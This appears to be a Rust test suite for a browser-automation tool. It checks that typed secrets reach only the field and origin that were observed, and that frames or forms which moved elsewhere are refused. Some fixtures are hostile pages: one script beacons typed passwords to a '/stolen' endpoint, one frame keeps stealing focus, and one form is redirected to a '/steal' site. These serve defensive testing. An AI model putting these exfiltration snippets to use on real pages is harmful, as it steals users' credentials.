//! A secret is typed into the document that was looked at, or not at all.

use crate::server::{Answer, Server};
use crate::support::{element, open, open_page};
use errand_browser::ActError;

const FIELD: &str = "<label>Password <input id=p name=p></label>";

#[tokio::test]
async fn every_kind_of_field_takes_a_secret_and_tells_the_page() {
    let kinds = ["<input>", "<input type=password>", "<input type=email>", "<input type=tel>", "<textarea></textarea>"];
    for kind in kinds {
        let field = kind.replacen(
            '>',
            " id=f oninput='heard.textContent += \"i\"' onkeyup='heard.textContent += \"k\"' value=old>",
            1,
        );
        let page = format!(
            "<label>Field {field}</label><p id=heard></p><button onclick='out.textContent = f.value.length'>Count</button><p id=out></p>"
        );
        let (_server, opened) = open_page(&page).await;
        opened.type_secret("Field", "s3cr3t@shop.test").await.unwrap();
        opened.click("Count").await;
        let text = opened.text().await;
        assert!(text.contains("ik") && text.ends_with("16"), "{kind}: {text}");
    }
}

#[tokio::test]
async fn a_number_and_an_editor_take_a_secret() {
    let (_server, opened) = open_page(
        "<label>Pin <input id=n type=number></label><div id=e contenteditable aria-label=Editor>old</div>
         <button onclick='out.textContent = n.value.length + \"/\" + e.innerText.length'>Count</button><p id=out></p>",
    )
    .await;
    opened.type_secret("Pin", "471199").await.unwrap();
    opened.type_secret("Editor", "s3cr3t-99").await.unwrap();
    opened.click("Count").await;
    assert!(opened.text().await.ends_with("6/9"), "{}", opened.text().await);
}

#[tokio::test]
async fn only_documents_that_a_server_sent_have_an_origin() {
    let server = Server::start();
    let named = |name: &str| FIELD.replace("Password", name);
    server.route("/other", Answer::html(&named("Other")));
    server.route("/boxed", Answer::html(&named("Boxed")));
    server.route(
        "/forced",
        Answer::html(&named("Forced")).header("content-security-policy", "sandbox allow-scripts allow-forms"),
    );
    server.route("/own", Answer::html(&named("Own")));
    let data = named("Data").replace('<', "%3C").replace('>', "%3E");
    let page = format!(
        "{main}<iframe src='{other}'></iframe><iframe sandbox='allow-scripts allow-forms' src='/boxed'></iframe><iframe src='/forced'></iframe>
         <iframe src='/own'></iframe><iframe srcdoc=\"{srcdoc}\"></iframe><iframe src=\"data:text/html,{data}\"></iframe>
         <iframe id=blank></iframe><script>blank.contentDocument.body.innerHTML = '{blank}'</script>",
        main = named("Main"),
        other = server.other_site("/other"),
        srcdoc = named("Srcdoc"),
        blank = named("Blank"),
    );
    server.route("/", Answer::html(&page));
    let opened = open(&server).await;
    let seen = opened.observe().await;
    let own = server.url("").trim_end_matches('/').to_owned();
    let other = server.other_site("").trim_end_matches('/').to_owned();
    let origin = |name: &str| element(&seen, name).origin.clone();
    assert_eq!((origin("Main"), origin("Own"), origin("Other")), (own.clone(), own, other));
    let without = ["Boxed", "Forced", "Srcdoc", "Data", "Blank"];
    let fields: Vec<_> = seen.elements.iter().filter(|field| without.contains(&field.name.as_str())).collect();
    assert!(fields.len() >= 3, "{fields:?}");
    for field in fields {
        assert_eq!(field.origin, "", "{}", field.name);
        let refused = opened.type_secret_as_seen(field, "s3cr3t-99").await;
        assert!(matches!(refused, Err(ActError::SecretMoved { .. })), "{}: {refused:?}", field.name);
    }
}

#[tokio::test]
async fn a_frame_that_left_for_another_host_since_the_look_gets_nothing() {
    let server = Server::start();
    let thief = format!("{FIELD}<script>p.oninput = () => navigator.sendBeacon('/stolen', p.value)</script>");
    server.route("/frame", Answer::html(FIELD));
    server.route("/thief", Answer::html(&thief));
    let page = format!(
        "<button onclick=\"f.src = '{}'\">Swap</button><iframe id=f src=/frame></iframe>",
        server.other_site("/thief")
    );
    server.route("/", Answer::html(&page));
    let opened = open(&server).await;
    let seen = opened.observe().await;
    opened.click("Swap").await;
    let refused = opened.type_secret_as_seen(element(&seen, "Password"), "s3cr3t-99").await;
    assert!(refused.is_err(), "{refused:?}");
    assert!(server.seen().iter().all(|request| !request.body.contains("s3cr3t")));
}

#[tokio::test]
async fn a_form_that_goes_elsewhere_since_the_look_gets_nothing() {
    let server = Server::start();
    let other = server.other_site("/steal");
    let page = format!(
        "<form id=a action=/login method=post>{FIELD}<button>Log in</button></form>
         <button onclick=\"a.action = '{other}'\">Turn</button>
         <button onclick=\"a.action = '/login'; a.insertAdjacentHTML('afterend', '<input type=image form=a formaction={other}>')\">Add</button>",
    );
    server.route("/", Answer::html(&page));
    let opened = open(&server).await;
    for change in ["Turn", "Add"] {
        let seen = opened.observe().await;
        opened.click(change).await;
        let refused = opened.type_secret_as_seen(element(&seen, "Password"), "s3cr3t-99").await;
        assert!(matches!(refused, Err(ActError::SecretMoved { .. })), "{change}: {refused:?}");
    }
    let seen = opened.observe().await;
    assert_eq!(element(&seen, "Password").destinations.len(), 2, "{:?}", element(&seen, "Password").destinations);
}

#[tokio::test]
async fn a_frame_that_takes_the_focus_all_the_time_gets_nothing() {
    let server = Server::start();
    let thief = "<input id=t autofocus><script>setInterval(() => { window.focus(); t.focus(); if (t.value) navigator.sendBeacon('/stolen', t.value) }, 1)</script>";
    server.route("/thief", Answer::html(thief));
    let page = format!(
        "{FIELD}<button onclick='out.textContent = p.value.length'>Count</button><p id=out></p><iframe src='{}'></iframe>",
        server.other_site("/thief")
    );
    server.route("/", Answer::html(&page));
    let opened = open(&server).await;
    opened.type_secret("Password", "s3cr3t-99").await.unwrap();
    opened.click("Count").await;
    assert!(opened.text().await.contains('9'), "{}", opened.text().await);
    assert!(server.seen().iter().all(|request| request.path != "/stolen"));
}
